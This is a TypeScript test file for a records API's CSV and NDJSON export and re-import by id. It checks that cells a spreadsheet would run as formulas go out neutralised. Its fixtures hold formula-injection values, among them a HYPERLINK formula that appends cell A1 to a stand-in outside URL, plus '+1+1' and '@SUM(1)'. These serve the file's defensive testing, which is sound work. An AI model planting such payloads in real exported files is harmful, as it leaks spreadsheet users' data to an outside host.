import { env } from 'cloudflare:workers';
import { describe, expect, it } from 'vitest';
import {
  admin,
  call,
  createOne,
  download,
  errorLines,
  expectProblem,
  finished,
  fv,
  letMemoryExpire,
  newUser,
  newWorkspace,
  objectIn,
  upload,
} from './helpers.ts';

/**
 * Export, edit in a spreadsheet, import back by id: an export's file goes back in as it is
 * (`mode=update&matchOn=id`), an unedited one changes nothing, and a cell a spreadsheet would run
 * as a formula goes out neutralised and comes back as the value it was.
 */

const FIELDS = [
  { name: 'title', type: 'text', required: true },
  { name: 'code', type: 'text' },
  { name: 'score', type: 'number' },
  { name: 'rank', type: 'integer' },
  { name: 'open', type: 'boolean' },
  { name: 'day', type: 'date' },
  { name: 'at', type: 'datetime' },
  { name: 'tags', type: 'multiSelect', options: ['a', 'b', 'c'] },
  { name: 'data', type: 'json' },
];

/** Values no one here wrote: leading zeros, line breaks, other scripts, formulas, JSON of every kind. */
const ROWS = [
  [fv('title', 'Alpha'), fv('code', '007'), fv('score', -2.5), fv('rank', 3), fv('open', false)],
  [
    fv('title', 'Beta'),
    fv('code', 'multi\r\nline, "quoted"'),
    fv('day', '2026-02-28'),
    fv('at', '2026-11-22T10:00:00+09:00'),
  ],
  [fv('title', '東京 🛫'), fv('code', '=HYPERLINK("http://x.example/?"&A1,"click")'), fv('tags', ['a', 'c'])],
  [fv('title', '+1+1'), fv('code', '@SUM(1)'), fv('data', '123')],
  [fv('title', '-1+1'), fv('code', '\tTab'), fv('data', { nested: [1, '=x'] })],
  [fv('title', "'=already"), fv('code', ''), fv('data', [])],
];

async function setup() {
  const world = await objectIn({ name: 'Thing', nameTemplate: '{title}', fields: FIELDS });
  const records = [];
  for (const values of ROWS) records.push(await createOne(world.editor.key, world.object.id, values));
  return { ...world, records };
}

const exportPath = (workspaceId: number, objectId: number, query = '') =>
  `/workspaces/${workspaceId}/records/export?objectId=${objectId}${query}`;

async function exported(key: string, path: string): Promise<string> {
  const res = await download(key, path);
  expect(res.status).toBe(200);
  return new TextDecoder().decode(await res.arrayBuffer());
}

async function changeCount(objectId: number): Promise<number> {
  const row = await env.DB.prepare(
    'SELECT count(*) AS n FROM changes c JOIN records r ON r.id = c.record_id WHERE r.object_id = ?',
  )
    .bind(objectId)
    .first<{ n: number }>();
  return row?.n ?? 0;
}

async function importBack(key: string, workspaceId: number, objectId: number, file: string, type: string) {
  const answer = await upload(key, workspaceId, `objectId=${objectId}&mode=update&matchOn=id`, file, type);
  expect(answer.status).toBe(202);
  expect(answer.body).toMatchObject({ mode: 'update', matchOn: 'id' });
  return finished(key, answer.body.id);
}

describe('a CSV export goes back in by id', () => {
  it('edited in one cell, it changes exactly that record; unedited, formulas and all, it changes nothing', async () => {
    const { editor, workspaceId, object, records } = await setup();
    const csv = await exported(editor.key, exportPath(workspaceId, object.id, '&format=csv'));
    // Formulas go out neutralised; an empty text goes out as an empty cell.
    expect(csv).toContain(`,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",`);
    expect(csv).toContain("'+1+1,'@SUM(1)");
    expect(csv).toContain("''=already");
    expect(csv).not.toMatch(/(^|,)[=+@\t-][^0-9]/m);

    const before = await changeCount(object.id);
    const unedited = await importBack(editor.key, workspaceId, object.id, csv, 'text/csv');
    expect(unedited).toMatchObject({
      status: 'succeeded',
      rows: { processed: 6, created: 0, updated: 0, unchanged: 6, failed: 0, total: 6 },
    });
    expect(await changeCount(object.id)).toBe(before);

    // The title cell of the second record (its name's cell, before it, is only read by people).
    const beta = `,${records[1].updatedAt},Beta,`;
    expect(csv.split(beta)).toHaveLength(2);
    const edited = csv.replace(beta, `,${records[1].updatedAt},Beta edited,`);
    const once = await importBack(editor.key, workspaceId, object.id, edited, 'text/csv');
    expect(once.rows).toMatchObject({ processed: 6, updated: 1, unchanged: 5, failed: 0 });
    expect(await changeCount(object.id)).toBe(before + 1);
    for (const [i, record] of records.entries()) {
      const now = (await call('GET', `/records/${record.id}`, { key: editor.key })).body;
      if (i !== 1) expect(now, record.name).toEqual(record);
      else
        expect(now).toMatchObject({
          name: 'Beta edited',
          version: 2,
          fieldValues: [fv('title', 'Beta edited'), ...record.fieldValues.slice(1)],
        });
    }
  });

  it('an NDJSON export goes back in too: unedited nothing changes, an edited line patches its record', async () => {
    const { editor, workspaceId, object, records } = await setup();
    const ndjson = await exported(editor.key, exportPath(workspaceId, object.id));
    const unedited = await importBack(editor.key, workspaceId, object.id, ndjson, 'application/x-ndjson');
    expect(unedited.rows).toMatchObject({ processed: 6, unchanged: 6, failed: 0, total: 6 });
    const lines = ndjson.trimEnd().split('\n');
    const first = JSON.parse(lines[0] as string);
    first.fieldValues = [fv('title', 'Alpha'), fv('rank', 4)];
    lines[0] = JSON.stringify(first);
    const edited = await importBack(editor.key, workspaceId, object.id, lines.join('\n'), 'application/x-ndjson');
    expect(edited.rows).toMatchObject({ updated: 1, unchanged: 5 });
    // A patch: the fields the line leaves out keep their values.
    const now = (await call('GET', `/records/${records[0].id}`, { key: editor.key })).body;
    expect(now.fieldValues).toEqual([
      fv('title', 'Alpha'),
      fv('code', '007'),
      fv('score', -2.5),
      fv('rank', 4),
      fv('open', false),
    ]);
  });

  it('with formulas kept, cells go out as they are; only a CSV export takes the parameter', async () => {
    const { editor, workspaceId, object } = await setup();
    const raw = await exported(editor.key, exportPath(workspaceId, object.id, '&format=csv&formulas=keep'));
    expect(raw).toContain('+1+1,@SUM(1)');
    const refused = await call('GET', exportPath(workspaceId, object.id, '&formulas=keep'), { key: editor.key });
    expectProblem(refused, 400, 'invalid_request');
    expect(refused.body.errors).toMatchObject([{ query: 'formulas', code: 'not_allowed' }]);
  });
});

describe('an update by id never creates, and refuses what the importer may not change', () => {
  it('an unknown id, another object, a record outside the workspace, a deleted one, a stale version fail', async () => {
    const { editor, workspaceId, object, records } = await setup();
    const elsewhere = await newWorkspace({ [editor.id]: 'editor' });
    const other = (
      await admin('POST', '/admin/objects', { name: 'Other', workspaceIds: [workspaceId], fields: FIELDS.slice(0, 1) })
    ).body;
    const outside = (
      await admin('POST', '/admin/objects', { name: 'Out', workspaceIds: [elsewhere], fields: FIELDS.slice(0, 1) })
    ).body;
    const otherRecord = await createOne(editor.key, other.id, [fv('title', 'Other')]);
    const outsideRecord = await createOne(editor.key, outside.id, [fv('title', 'Outside')]);
    await call('DELETE', `/workspaces/${workspaceId}/records/${records[5].id}`, { key: editor.key });
    const patched = await call('PATCH', `/workspaces/${workspaceId}/records/${records[1].id}`, {
      key: editor.key,
      body: { fieldValues: [fv('rank', 9)] },
    });
    expect(patched.body.version).toBe(2);
    const csv =
      'id,version,title\r\n' +
      '999999,,Ghost\r\n' +
      `${otherRecord.id},,Other\r\n` +
      `${outsideRecord.id},,Outside\r\n` +
      `${records[5].id},,Deleted\r\n` +
      `${records[1].id},1,Stale\r\n` +
      `${records[0].id},1,Alpha\r\n` +
      ',,Nobody\r\n';
    const before = (await env.DB.prepare('SELECT count(*) AS n FROM records').first<{ n: number }>())?.n;
    const done = await importBack(editor.key, workspaceId, object.id, csv, 'text/csv');
    expect(done).toMatchObject({ status: 'succeeded', rows: { processed: 7, created: 0, unchanged: 1, failed: 6 } });
    expect((await env.DB.prepare('SELECT count(*) AS n FROM records').first<{ n: number }>())?.n).toBe(before);
    const missing = { pointer: '/id', column: 'id', code: 'not_found' };
    expect((await errorLines(editor.key, done.id)).map((line) => [line.row, line.errors[0]])).toMatchObject([
      [1, missing],
      [2, missing],
      [3, missing],
      [4, { pointer: '', code: 'record_deleted' }],
      [5, { pointer: '/version', column: 'version', code: 'precondition_failed' }],
      [7, { pointer: '/id', column: 'id', code: 'required' }],
    ]);
    expect((await call('GET', `/records/${records[1].id}`, { key: editor.key })).body.version).toBe(2);
  });

  it('an empty cell removes the value, a required one fails its row, and a stored empty text stays', async () => {
    const { editor, workspaceId, object, records } = await setup();
    const csv =
      'id,title,code,score\r\n' +
      `${records[0].id},Alpha,,\r\n` +
      `${records[1].id},,x,\r\n` +
      `${records[5].id},''=already,,\r\n`;
    const done = await importBack(editor.key, workspaceId, object.id, csv, 'text/csv');
    expect(done.rows).toMatchObject({ updated: 1, unchanged: 1, failed: 1 });
    const alpha = (await call('GET', `/records/${records[0].id}`, { key: editor.key })).body;
    expect(alpha.fieldValues).toEqual([fv('title', 'Alpha'), fv('rank', 3), fv('open', false)]);
    expect(await errorLines(editor.key, done.id)).toMatchObject([
      { row: 2, errors: [{ code: 'required', message: 'title is required' }] },
    ]);
    const kept = (await call('GET', `/records/${records[5].id}`, { key: editor.key })).body;
    expect(kept.version).toBe(1);
  });
});

describe("an export's columns never clash, and a create refuses an export's ids", () => {
  it('a definition that holds a field called name exports it once, as the field, and imports it back', async () => {
    const { editor, workspaceId, object, records } = await setup();
    await env.DB.prepare(
      `UPDATE object_versions SET fields = json_insert(fields, '$[#]', json('{"name":"name","type":"text"}'))
       WHERE object_id = ?`,
    )
      .bind(object.id)
      .run();
    letMemoryExpire();
    const patched = await call('PATCH', `/workspaces/${workspaceId}/records/${records[0].id}`, {
      key: editor.key,
      body: { fieldValues: [fv('name', 'LIS')] },
    });
    expect(patched.status).toBe(200);
    const csv = await exported(editor.key, exportPath(workspaceId, object.id, '&format=csv'));
    const header = csv.slice(0, csv.indexOf('\r\n')).split(',');
    expect(header).toEqual(['id', 'version', 'updatedAt', ...FIELDS.map((f) => f.name), 'name']);
    expect(csv).toContain(',LIS\r\n');
    const done = await importBack(editor.key, workspaceId, object.id, csv, 'text/csv');
    expect(done.rows).toMatchObject({ unchanged: 6, failed: 0 });
  });

  it("a create refuses an export's own columns at once; an update needs its id column", async () => {
    const { editor, workspaceId, object } = await setup();
    const csv = await exported(editor.key, exportPath(workspaceId, object.id, '&format=csv'));
    const create = await upload(editor.key, workspaceId, `objectId=${object.id}`, csv, 'text/csv');
    expectProblem(create, 400, 'invalid_request');
    expect(create.body.errors).toMatchObject([
      { pointer: '/columns/0', column: 'id', code: 'not_allowed' },
      { pointer: '/columns/1', column: 'name', code: 'unknown_field' },
      { pointer: '/columns/2', column: 'version', code: 'unknown_field' },
      { pointer: '/columns/3', column: 'updatedAt', code: 'unknown_field' },
    ]);
    const update = await upload(
      editor.key,
      workspaceId,
      `objectId=${object.id}&mode=update`,
      'title\r\nX\r\n',
      'text/csv',
    );
    expectProblem(update, 400, 'invalid_request');
    expect(update.body.errors).toMatchObject([{ pointer: '/columns', code: 'required' }]);
    const stranger = await newUser('stranger');
    const refused = await upload(stranger.key, workspaceId, `objectId=${object.id}&mode=update`, csv, 'text/csv');
    expect(refused.status).toBe(404);
  });
});
